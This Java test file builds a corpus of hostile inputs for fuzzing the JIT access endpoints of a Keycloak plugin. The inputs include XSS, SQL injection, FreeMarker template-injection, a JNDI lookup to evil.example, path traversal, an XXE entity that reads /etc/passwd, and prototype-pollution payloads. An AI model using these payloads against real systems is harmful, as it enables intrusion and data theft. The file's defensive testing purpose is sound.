package io.jitaccess.keycloak.it;

import com.fasterxml.jackson.core.JsonProcessingException;
import java.net.URLEncoder;
import java.nio.charset.StandardCharsets;
import java.util.ArrayList;
import java.util.LinkedHashMap;
import java.util.List;
import java.util.Map;

/**
 * The hostile input the JIT endpoints are fed: strings an attacker types, values of the wrong type, durations
 * that overflow, broken JSON, ids that try to leave their path segment. Each call generates the same cases in
 * the same order, so a failure names a case that can be replayed.
 */
final class HostileCorpus {

    /** Strings that are odd but harmless as text: they must be stored and shown verbatim. */
    static final List<String> ODD_TEXT = List.of(
            "<script>alert(1)</script>",
            "<img src=x onerror=\"window.jitInjected=1\"><b>bold</b>",
            "\"><svg onload=alert(1)>",
            "javascript:alert(document.cookie)",
            "' OR '1'='1",
            "'; DROP TABLE JIT_GRANT; --",
            "1; SELECT pg_sleep(10)",
            "\" OR \"\"=\"",
            "${7*7} #{7*7} <#assign x=\"freemarker.template.utility.Execute\"?new()>${x(\"id\")}",
            "${jndi:ldap://evil.example/a}",
            "{{constructor.constructor('alert(1)')()}}",
            "%s%s%s%n%x",
            "../../../../etc/passwd",
            "Ω≈ç√∫ ｆｕｌｌｗｉｄｔｈ 日本語 עברית",
            "👩‍💻🔑 emoji with a zero-width joiner",
            "\u202Eevil.exe\u202C right-to-left override",
            "zero\u200Bwidth\uFEFFspaces",
            "tab\tand\nnew\r\nlines",
            "&lt;already escaped&gt; &amp; &#x27;",
            "é".repeat(2000));

    /** Strings no text field may store: control characters, broken UTF-16, over the length caps. */
    static final List<String> INVALID_TEXT = List.of(
            "nul\u0000byte",
            "\u0000",
            "bell\u0007",
            "escape\u001B[31mred",
            "backspace\b",
            "delete\u007F",
            "lone high surrogate \uD800",
            "lone low surrogate \uDC00 here",
            "x".repeat(2001),
            "<b>".repeat(700));

    /** Strings that name nothing: as a policy, an id or a filter they find nothing and reveal nothing. */
    static final List<String> NAMES = List.of(
            "' OR '1'='1",
            "'; DROP TABLE JIT_REQUEST; --",
            "\" OR 1=1 --",
            "%",
            "_",
            "*",
            "..",
            "../../admin",
            "..\\..\\",
            "<script>alert(1)</script>",
            "${7*7}",
            "null",
            "undefined",
            "0",
            "-1",
            "NaN",
            "[]",
            "{}",
            "true",
            "00000000-0000-0000-0000-000000000000",
            "a".repeat(300),
            "é",
            "\u202E",
            "💥",
            "%00",
            "%2e%2e%2f");

    /** Durations that are not a positive ISO-8601 duration within a day, or overflow. */
    static final List<String> BAD_DURATIONS = List.of(
            "-PT1H",
            "PT0S",
            "PT-1S",
            "PT0.0S",
            "P0D",
            "-P1D",
            "P999999999999D",
            "PT9223372036854775807S",
            "PT9223372036854775808S",
            "P106751991167300D",
            "PT99999999999999999999H",
            "P1Y",
            "P1M",
            "P1W",
            "1h",
            "3600",
            "1e9",
            "PT",
            "P",
            "T1H",
            "PT1H30",
            "PT1.5H",
            "1 hour",
            "forever",
            "∞",
            "PT١H",
            "ＰＴ１Ｈ",
            "PT1H; DROP",
            "<b>PT1H</b>",
            "PT2H" /* over the policy's PT1H */,
            "P1D",
            "PT61M",
            "PT3601S");

    /** Values of the wrong JSON type for a string field. */
    static final List<String> WRONG_TYPES = List.of(
            "1", "-1", "1.5e309", "true", "false", "[]", "[\"x\"]", "{}", "{\"$gt\":\"\"}", "{\"toString\":\"x\"}");

    /** Bodies that are not one JSON object of known fields, with the content type they are sent as. */
    static List<Body> brokenBodies(String validJson) {
        List<Body> bodies = new ArrayList<>();
        for (String text : List.of(
                "{",
                "}",
                "[",
                "[]",
                "[{}]",
                "null",
                "\"text\"",
                "42",
                "true",
                "{\"policy\":}",
                "{\"policy\"}",
                "{policy:\"x\"}",
                "{'policy':'x'}",
                "{\"a\":1,}",
                validJson + " trailing",
                validJson + validJson,
                "{\"__proto__\":{\"admin\":true}}",
                "{\"constructor\":{\"prototype\":{}}}",
                "{\"unknown\":\"field\"}",
                "{\"policy\":\"x\",\"policy\":\"y\",\"extra\":1}",
                "{\"comment\":\"x\",\"reason\":\"y\",\"policy\":\"z\",\"more\":1}",
                "[".repeat(5000),
                "{\"a\":".repeat(3000) + "1" + "}".repeat(3000),
                "\uFEFF" + "{\"unknown\":1}",
                "<?xml version=\"1.0\"?><!DOCTYPE x [<!ENTITY e SYSTEM \"file:///etc/passwd\">]><x>&e;</x>",
                "policy=x&duration=PT1H",
                "{\"s\":\"" + "\\u0000".repeat(10) + "\"")) {
            bodies.add(new Body(
                    text.length() > 60 ? text.substring(0, 60) + "…(" + text.length() + ")" : text,
                    "application/json",
                    text.getBytes(StandardCharsets.UTF_8)));
        }
        bodies.add(new Body(
                "invalid UTF-8", "application/json", new byte[] {'{', '"', (byte) 0xC3, (byte) 0x28, '"', ':', '1', '}'
                }));
        bodies.add(new Body(
                "over 64 KiB",
                "application/json",
                ("{\"unknown\":\"" + "x".repeat(70_000) + "\"}").getBytes(StandardCharsets.UTF_8)));
        bodies.add(new Body(
                "a megabyte",
                "application/json",
                ("{\"unknown\":\"" + "x".repeat(1 << 20) + "\"}").getBytes(StandardCharsets.UTF_8)));
        bodies.add(new Body(
                "unknown field as text/plain", "text/plain", "{\"unknown\":1}".getBytes(StandardCharsets.UTF_8)));
        bodies.add(new Body(
                "unknown field as XML", "application/xml", "{\"unknown\":1}".getBytes(StandardCharsets.UTF_8)));
        bodies.add(new Body(
                "unknown field as a form",
                "application/x-www-form-urlencoded",
                "unknown=1".getBytes(StandardCharsets.UTF_8)));
        return bodies;
    }

    /** A body as sent: a label for the report, its content type and its bytes. */
    record Body(String label, String contentType, byte[] bytes) {

        static Body json(String label, Object value) {
            try {
                return new Body(label, "application/json", Http.JSON.writeValueAsBytes(value));
            } catch (JsonProcessingException e) {
                throw new IllegalStateException(e);
            }
        }

        static Body rawJson(String label, String text) {
            return new Body(label, "application/json", text.getBytes(StandardCharsets.UTF_8));
        }
    }

    /** A JSON object with one field set to a JSON literal (wrong types); the other fields valid. */
    static String withLiteral(Map<String, String> valid, String field, String literal) {
        Map<String, String> fields = new LinkedHashMap<>();
        valid.forEach((name, value) -> fields.put(name, quote(value)));
        fields.put(field, literal);
        StringBuilder json = new StringBuilder("{");
        fields.forEach((name, value) -> json.append(json.length() > 1 ? "," : "")
                .append(quote(name))
                .append(':')
                .append(value));
        return json.append('}').toString();
    }

    /** A JSON string literal; characters Java cannot encode as UTF-8 (lone surrogates) are written as escapes. */
    static String quote(String text) {
        StringBuilder out = new StringBuilder("\"");
        for (int i = 0; i < text.length(); i++) {
            char c = text.charAt(i);
            if (c == '"' || c == '\\') {
                out.append('\\').append(c);
            } else if (c < 0x20 || Character.isSurrogate(c) && !pairedAt(text, i)) {
                out.append(String.format("\\u%04x", (int) c));
            } else if (Character.isHighSurrogate(c)) {
                out.append(c).append(text.charAt(++i));
            } else {
                out.append(c);
            }
        }
        return out.append('"').toString();
    }

    private static boolean pairedAt(String text, int i) {
        char c = text.charAt(i);
        return Character.isHighSurrogate(c) && i + 1 < text.length() && Character.isLowSurrogate(text.charAt(i + 1));
    }

    /** A path segment as an attacker would send it: percent-encoded so it stays one segment. */
    static String segment(String id) {
        return URLEncoder.encode(id, StandardCharsets.UTF_8).replace("+", "%20");
    }

    private HostileCorpus() {}
}
